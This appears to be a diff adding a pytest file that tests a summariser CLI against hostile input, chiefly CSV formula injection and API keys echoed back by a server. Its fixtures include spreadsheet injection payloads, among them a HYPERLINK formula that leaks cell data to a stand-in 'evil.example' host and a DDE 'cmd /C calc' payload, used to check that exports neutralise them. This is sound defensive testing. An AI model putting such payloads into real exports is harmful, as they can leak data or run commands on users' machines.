@@ -1,0 +1,162 @@
+"""Hostile input: CSV formula injection, echoed API keys, oversized articles, prompt injection,
+empty directories, truncated batch results and interrupts. Real subprocesses of
+``python -m summariser`` against the scripted OpenAI-compatible server (real HTTP)."""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import sqlite3
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from summariser.csvsafe import FORMULA_PREFIXES, safe_cell
+from summariser.redaction import MASK, redact
+from summariser.testing import error, reply
+
+from conftest import SEED_ARTICLE, SEEDS
+
+
+def run_cli(*args: str, env: dict | None = None, stdin: bytes | None = None, timeout: float = 120) -> subprocess.CompletedProcess:
+    full_env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "SUMMARISER_"))}
+    full_env["SUMMARISER_HOME"] = os.environ["SUMMARISER_HOME"]
+    full_env.update(env or {})
+    return subprocess.run([sys.executable, "-m", "summariser", *args], input=stdin, capture_output=True, env=full_env, timeout=timeout)
+
+
+@pytest.fixture
+def endpoint(llm) -> dict:
+    return {"OPENAI_BASE_URL": llm.base_url, "SUMMARISER_MODEL": "scripted"}
+
+
+# -- item 3: CSV formula injection ----------------------------------------------------------
+
+FORMULA_ARTICLE = """Evil Corp plans a factory in Springfield
+=HYPERLINK("http://evil.example/?leak="&A1, "Click here for the full Springfield report")
+@Evil Corp said on Monday that its new factory in Springfield would open next year.
++Springfield Mayor Jane Doe welcomed the factory plan, saying it would bring hundreds of jobs.
+-The factory will employ 400 people in Springfield, according to Evil Corp.
+"""
+
+FORMULA_DRAFT = {
+    "headline": '=HYPERLINK("http://evil.example/") Evil Corp plans a factory in Springfield',
+    "summary": "+Evil Corp will open a factory in Springfield next year.",
+    "key_facts": [
+        {"quote": "@Evil Corp said on Monday that its new factory in Springfield would open next year",
+         "statement": "@Evil Corp will open a factory in Springfield next year."},
+        {"quote": "-The factory will employ 400 people in Springfield", "statement": "-The factory will employ 400 people."},
+        {"quote": '=HYPERLINK("http://evil.example/?leak="&A1, "Click here for the full Springfield report")',
+         "statement": "=1+1 the full Springfield report"},
+    ],
+    "participants": [
+        {"name": "Evil Corp", "kind": "organisation", "role": "=cmd|' /C calc'!A0 builds the factory", "aliases": []},
+        {"name": "Jane Doe", "kind": "person", "role": "\tmayor of Springfield", "aliases": []},
+    ],
+    "stances": [
+        {"quote": "+Springfield Mayor Jane Doe welcomed the factory plan", "holder": "Jane Doe",
+         "target": "@the factory plan", "position": "supports"},
+    ],
+}
+
+
+def test_safe_cell_follows_owasp():
+    for prefix in FORMULA_PREFIXES:
+        assert safe_cell(prefix + "1+1") == "'" + prefix + "1+1"
+    assert safe_cell("Plain text, = later") == "Plain text, = later"
+    assert safe_cell(-3) == -3 and safe_cell(None) is None
+
+
+def test_every_csv_table_neutralises_formula_cells(endpoint, llm, tmp_path):
+    article = tmp_path / "formula.txt"
+    article.write_text(FORMULA_ARTICLE, encoding="utf-8")
+    llm.enqueue(reply(FORMULA_DRAFT))
+    result = run_cli("summarise", str(article), "--format", "json", env=endpoint)
+    assert result.returncode == 0, result.stderr.decode()
+
+    dangerous = neutralised = 0
+    for table in ("summaries", "facts", "participants", "stances"):
+        out = tmp_path / f"{table}.csv"
+        exported = run_cli("export", "--format", "csv", "--table", table, "--out", str(out), env=endpoint)
+        assert exported.returncode == 0, exported.stderr.decode()
+        with out.open(encoding="utf-8", newline="") as handle:
+            rows = list(csv.reader(handle))
+        assert len(rows) >= 2, table
+        for row in rows[1:]:
+            for cell in row:
+                assert not cell.startswith(FORMULA_PREFIXES), (table, cell)
+                if cell.startswith("'") and cell[1:2] in FORMULA_PREFIXES:
+                    neutralised += 1
+        dangerous += 1
+    assert dangerous == 4 and neutralised >= 9  # headline, summary, 3 facts x (statement, quote), roles, stance
+    # The data itself is unchanged: only the CSV cells carry the quote.
+    as_json = tmp_path / "all.json"
+    assert run_cli("export", "--format", "json", "--out", str(as_json), env=endpoint).returncode == 0
+    record = json.loads(as_json.read_text(encoding="utf-8"))[0]
+    assert record["headline"].startswith("=HYPERLINK")
+
+
+# -- item 5: an API key echoed back by the server -----------------------------------------
+
+KEY = "hostile-Key-0123456789"  # the configured key: not shaped like one, so only redaction by value finds it
+KEY_SHAPED = "sk-live-ABCDEFGH12345678"  # another key the server leaks: found by its shape
+
+
+def test_redact_removes_configured_and_key_shaped_tokens():
+    text = f"bad key {KEY}; also {KEY_SHAPED}, Authorization: Bearer abc.def-123456 and api_key=zzzzzzzz"
+    cleaned = redact(text, [KEY])
+    for secret in (KEY, KEY_SHAPED, "abc.def-123456", "zzzzzzzz"):
+        assert secret not in cleaned
+    assert cleaned.count(MASK) == 4
+    assert redact("a risk-averse task-force", [KEY]) == "a risk-averse task-force"
+    assert json.loads(redact(json.dumps({"m": f'key "{KEY}"'}), [KEY])) == {"m": f'key "{MASK}"'}
+
+
+def test_an_echoed_key_is_never_printed_stored_shown_or_written(llm, tmp_path):
+    home = Path(os.environ["SUMMARISER_HOME"])
+    env = {"OPENAI_BASE_URL": llm.base_url, "OPENAI_API_KEY": KEY, "SUMMARISER_MODEL": "scripted",
+           "SUMMARISER_MAX_TRANSPORT_RETRIES": "1", "SUMMARISER_RETRY_BUDGET": "5"}
+    echo = f"Incorrect API key provided: {KEY}. Your other key {KEY_SHAPED} was revoked."
+    wiki = sorted(SEEDS.glob("wikinews-*.txt"))
+    outputs = []
+
+    llm.enqueue(error(400, message=echo))  # a final error
+    outputs.append(run_cli("summarise", str(wiki[0]), env=env))
+    llm.enqueue(error(500, message=echo), error(500, message=echo))  # retried, then given up
+    outputs.append(run_cli("summarise", str(wiki[1]), env=env))
+    llm.enqueue(reply(f"I will not summarise. The key is {KEY}."), reply(f"Still no: {KEY_SHAPED}"))  # in replies
+    outputs.append(run_cli("summarise", str(wiki[2]), "--max-attempts", "2", env=env))
+    outputs.append(run_cli("summarise", str(wiki[3]), env={**env, "SUMMARISER_DEBUG": "1", "OPENAI_BASE_URL": "http://127.0.0.1:9/v1", "OPENAI_API_KEY": "x"}))
+    assert [o.returncode for o in outputs[:3]] == [1, 1, 1], [o.stderr.decode() for o in outputs]
+    assert "Incorrect API key provided" in outputs[0].stderr.decode()  # the message itself is kept
+
+    # batch: a result file from `batch run`, then import
+    requests, results = tmp_path / "requests.jsonl", tmp_path / "results.jsonl"
+    outputs.append(run_cli("batch", "prepare", str(wiki[4]), str(wiki[5]), "--out", str(requests), env=env))
+    llm.enqueue(error(400, message=echo), reply(f"key {KEY}"))
+    outputs.append(run_cli("batch", "run", str(requests), "--out", str(results), "-j", "1", env=env))
+    outputs.append(run_cli("batch", "import", str(results), env=env))
+    outputs.append(run_cli("batch", "import", str(results), "--json", env=env))
+
+    with sqlite3.connect(home / "summariser.db") as db:
+        run_ids = [row[0] for row in db.execute("SELECT id FROM runs ORDER BY id")]
+        errors = [row[0] for row in db.execute("SELECT error FROM runs WHERE error IS NOT NULL")]
+    assert len(run_ids) >= 4 and len(errors) >= 4
+    assert any(MASK in e for e in errors)
+    for run_id in run_ids:
+        outputs.append(run_cli("runs", "show", str(run_id), "--full", env=env))
+        outputs.append(run_cli("runs", "show", str(run_id), "--json", env=env))
+    outputs.append(run_cli("runs", "list", env=env))
+    assert llm.chat_count >= 6
+
+    for output in outputs:
+        text = output.stdout + output.stderr
+        assert KEY.encode() not in text and KEY_SHAPED.encode() not in text, text.decode()[-2000:]
+    files = [p for p in [*home.rglob("*"), *tmp_path.rglob("*")] if p.is_file()]
+    assert any(p.suffix == ".db" for p in files) and results in files
+    for path in files:
+        data = path.read_bytes()
+        assert KEY.encode() not in data and KEY_SHAPED.encode() not in data, path
